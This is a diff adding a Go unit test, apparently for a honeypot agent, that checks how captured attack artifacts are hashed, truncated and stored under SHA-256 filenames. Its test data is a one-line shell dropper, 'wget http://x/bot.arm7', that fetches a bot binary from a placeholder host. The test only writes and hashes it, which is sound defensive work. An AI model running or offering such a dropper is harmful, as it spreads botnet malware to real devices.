@@ -0,0 +1,51 @@
+package common
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"os"
+	"path/filepath"
+	"potAgent/global"
+	"testing"
+)
+
+func TestArtifactWriter(t *testing.T) {
+	dataDir := global.DataDir
+	t.Cleanup(func() { global.DataDir = dataDir })
+	global.DataDir = t.TempDir()
+	hexSum := func(b []byte) string {
+		sum := sha256.Sum256(b)
+		return hex.EncodeToString(sum[:])
+	}
+
+	content := []byte("#!/bin/sh\nwget http://x/bot.arm7\n")
+	for _, c := range []struct {
+		max       int64
+		stored    []byte
+		truncated bool
+	}{
+		{0, content, false},
+		{10, content[:10], true},
+	} {
+		w, err := NewArtifactWriter(c.max)
+		if err != nil {
+			t.Fatal(err)
+		}
+		w.Write(content[:5])
+		w.Write(content[5:])
+		sum, path, err := w.Close()
+		if err != nil {
+			t.Fatal(err)
+		}
+		// 哈希为完整的内容，文件名为保存的内容
+		if sum != hexSum(content) || w.Size() != int64(len(content)) || w.Truncated() != c.truncated {
+			t.Errorf("max %d: sum %s size %d truncated %v", c.max, sum, w.Size(), w.Truncated())
+		}
+		if filepath.Base(path) != hexSum(c.stored) {
+			t.Errorf("max %d: unexpected path %s", c.max, path)
+		}
+		if data, err := os.ReadFile(path); err != nil || string(data) != string(c.stored) {
+			t.Errorf("max %d: stored %q %v", c.max, data, err)
+		}
+	}
+}